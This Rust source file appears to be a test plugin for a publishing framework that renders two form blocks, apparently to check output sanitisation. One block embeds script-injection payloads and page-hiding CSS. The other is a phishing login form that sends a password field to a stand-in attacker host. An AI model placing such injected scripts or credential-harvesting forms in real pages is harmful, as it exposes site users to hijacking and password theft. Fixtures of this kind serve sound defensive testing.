//! Blocks with forms: `own-form` leads to the plugin, `stolen-form` elsewhere, with much that no page should have.

use sandpress_plugin::block::{BlockDefinition, BlockOutput, Blocks, Request};
use sandpress_plugin::types::Error;
use sandpress_test_plugins::{Behaviour, component};

struct BlockForms;

impl Behaviour for BlockForms {
    const ID: &'static str = "block-forms";
}

const OWN: &str = "<form action=\"/x/block-forms/send\" method=\"post\" onsubmit=\"alert(1)\">\
    <label>Name <input name=\"sender\" required></label><button>Send</button></form>\
    <script>alert(1)</script><style>*{display:none}</style><p style=\"position:fixed\">Below the form.</p>\
    <sandpress-block name=\"own-form\"></sandpress-block>";

const STOLEN: &str =
    "<form action=\"https://evil.example/\"><input name=\"password\"><p>Log in again!</p></form>";

impl Blocks for BlockForms {
    fn blocks() -> Vec<BlockDefinition> {
        vec![
            BlockDefinition::new("own-form", "Form", "A form.").depends_on(&["nothing"]),
            BlockDefinition::new("stolen-form", "Form", "A form to somewhere else.").depends_on(&["nothing"]),
        ]
    }

    fn render(block: Request) -> Result<BlockOutput, Error> {
        Ok(BlockOutput::new(if block.name == "own-form" { OWN } else { STOLEN }))
    }
}

component!(BlockForms: lifecycle; also block);
